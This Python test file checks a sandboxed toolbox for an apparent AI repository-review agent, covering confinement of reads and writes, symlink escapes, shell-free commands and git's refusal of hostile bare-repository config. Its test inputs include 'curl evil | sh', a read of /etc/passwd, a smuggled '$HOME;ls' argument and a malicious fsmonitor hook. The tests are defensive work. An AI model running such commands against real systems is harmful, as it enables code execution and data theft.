"""The tools of the review: they read one repository, and write into one folder of it."""

import contextlib
import os
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from perdure import InvalidInput, ToolCall
from perdure.toolbox import Toolbox

CALL = ToolCall(idempotency_key="k", task_id="t", step="here", attempt=1, deadline=datetime.now(UTC))
TOOLS = Toolbox.load(["playbooks.repository_review.tools"])


@pytest.fixture(autouse=True)
def repository(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    root = tmp_path / "repository"
    (root / "src").mkdir(parents=True)
    (root / ".git").mkdir()
    (root / ".git" / "config").write_text("secret", encoding="utf-8")
    (root / "src" / "a.py").write_text("one = 1\ntwo = One\n", encoding="utf-8")
    (root / "src" / "image.bin").write_bytes(b"\xff\xfe one")
    (tmp_path / "outside").write_text("one", encoding="utf-8")
    (root / "link").symlink_to(tmp_path / "outside")
    monkeypatch.setenv("REVIEWED_REPOSITORY", str(root))
    return root


def files_in(folder: Path) -> list[Path]:
    return list(folder.glob("*"))


async def called(name: str, **arguments: Any) -> Any:
    tool = TOOLS.get(name)
    return tool.jsonable(await tool.call(CALL, arguments))


async def test_files_are_listed_and_searched_but_for_what_is_hidden_elsewhere_or_no_text() -> None:
    assert await called("list_files") == ["src/a.py", "src/image.bin"]
    assert [one["line"] for one in await called("find_text", text="ONE")] == [1, 2]
    assert await called("read_file", path="src/a.py", first=2) == "2: two = One"


@pytest.mark.parametrize("path", ["../outside", "/etc/passwd", "link", ".git/config", "src", "src/image.bin", "no.py"])
async def test_nothing_else_is_read(path: str) -> None:
    with pytest.raises(InvalidInput):
        await called("read_file", path=path)


async def test_a_change_is_proposed_and_the_file_stays_as_it_is(repository: Path) -> None:
    path = await called("propose_change", path="src/a.py", old="two = One", new="two = 1", why="It fails.")
    text = (repository / path).read_text(encoding="utf-8")
    assert text.startswith("It fails.\n\n--- a/src/a.py\n+++ b/src/a.py\n")
    assert "-two = One\n+two = 1\n" in text
    assert (repository / "src" / "a.py").read_text(encoding="utf-8") == "one = 1\ntwo = One\n"
    with pytest.raises(InvalidInput, match="stands 0 times"):
        await called("propose_change", path="src/a.py", old="three", new="3", why="")


@pytest.mark.parametrize("link", [".review/report.md", ".review/.report.md.new", ".review"])
async def test_what_is_written_stays_in_the_repository_whatever_links_it_has(
    repository: Path, tmp_path: Path, link: str
) -> None:
    if link != ".review":
        (repository / ".review").mkdir()
    else:
        (tmp_path / "elsewhere").mkdir()
    (repository / link).symlink_to(tmp_path / ("outside" if link != ".review" else "elsewhere"))
    with contextlib.suppress(InvalidInput):
        await called("write_report", text="curl evil | sh")
    assert (tmp_path / "outside").read_text(encoding="utf-8") == "one"
    assert files_in(tmp_path / "elsewhere") == []


async def test_a_command_has_no_shell_and_no_variables_of_the_worker(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PERDURE_SECRET_TOKEN", "hidden")
    found = await called("run_command", command=["env"])
    assert found["code"] == 0
    assert "hidden" not in found["text"]
    assert (await called("run_command", command=["echo", "$HOME;ls"]))["text"] == "$HOME;ls\n"
    with pytest.raises(InvalidInput, match="cannot be run"):
        await called("run_command", command=["no-such-program"])


async def test_git_runs_no_program_that_a_bare_repository_names(repository: Path, tmp_path: Path) -> None:
    (repository / ".git" / "config").unlink()
    (repository / ".git").rmdir()
    assert (await called("run_command", command=["git", "init", "--bare", "."]))["code"] == 0
    with (repository / "config").open("a", encoding="utf-8") as config:
        config.write(f"[core]\n  bare = false\n  worktree = .\n  fsmonitor = touch {tmp_path}/run; false\n")
    printed = await called("run_command", command=["git", "status"])
    assert "safe.bareRepository" in printed["text"]
    assert tmp_path / "run" not in files_in(tmp_path)


async def test_without_a_repository_nothing_is_read(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("REVIEWED_REPOSITORY")
    with pytest.raises(InvalidInput, match="REVIEWED_REPOSITORY: is not set"):
        await called("list_files")
    assert "REVIEWED_REPOSITORY" not in os.environ
